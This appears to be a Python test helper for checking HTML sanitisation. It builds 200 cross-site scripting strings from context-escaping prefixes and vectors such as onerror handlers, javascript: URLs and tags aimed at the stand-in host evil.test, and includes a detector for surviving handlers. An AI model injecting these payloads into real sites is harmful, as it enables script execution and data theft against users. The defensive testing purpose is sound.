"""Two hundred texts that want to become more than text, and what a page looks like to a parser."""

import re
from collections import Counter
from itertools import product

from lxml import html

WAYS_OUT = ("", '">', "'>", "</script>", "</title>", "-->", "</textarea>", "]]>", "</style>", "</option></select>")
"""Of the places where a text may stand: an attribute, a script, a title, a comment, a form."""
VECTORS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<a href=javascript:hit()>x</a>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<math><mtext><img src onerror=hit()>",
    "<body onload=hit()>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<style>*{background:url(//evil.test)}</style>",
    "<form action=//evil.test><button>x",
    "<object data=javascript:hit()></object>",
    "<video><source onerror=hit()></video>",
    "<marquee onstart=hit()>",
    "{{constructor.constructor('hit()')()}}",
    '" onmouseover="hit()" x="',
    "' onfocus='hit()' autofocus='",
    "javascript:hit()//",
)
TEXTS = tuple(way + vector for way, vector in product(WAYS_OUT, VECTORS))
LEADING_SOMEWHERE = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc")


def harmless(text: str) -> str:
    """As long, with as many words, and nothing in it but letters."""
    return re.sub(r"[^\w\s]", "x", text)


def filling(longest: int | None, start: int) -> str:
    """As many of the texts as fit, from one of them on; all of them where there is no end."""
    filled = ""
    for number in range(len(TEXTS)):
        longer = f"{filled} {TEXTS[(start + number) % len(TEXTS)]}".strip()
        if longest is not None and len(longer) > longest:
            break
        filled = longer
    return filled or TEXTS[start % len(TEXTS)][:longest]


DRAWN = {"circle", "ellipse", "g", "line", "path", "polygon", "polyline", "rect"}
LOOKS = {"cx", "cy", "d", "fill", "height", "opacity", "points", "r", "rx", "ry", "stroke", "stroke-width", "transform"}
LOOKS |= {"width", "x", "x1", "x2", "y", "y1", "y2", "class"}


def is_drawing(one: html.HtmlElement) -> bool:
    """A stroke of a picture that is drawn from a name: another name gives other strokes, and none can do anything."""
    return one.tag in DRAWN and set(one.attrib) <= LOOKS


def shape(page: str) -> Counter[tuple[str, tuple[str, ...]]]:
    """Which elements there are, by name and names of attributes."""
    return Counter(
        (str(one.tag), tuple(sorted(one.attrib))) for one in html.fromstring(page).iter() if not is_drawing(one)
    )


def dangers(page: str) -> list[str]:
    """Handlers, and addresses that are scripts."""
    found = []
    for one in html.fromstring(page).iter():
        for name, value in one.attrib.items():
            is_script = name in LEADING_SOMEWHERE and re.sub(r"[\s\x00]", "", value).lower().startswith("javascript:")
            if name.startswith("on") or is_script:
                found.append(f"<{one.tag} {name}={value[:60]!r}>")
    return found
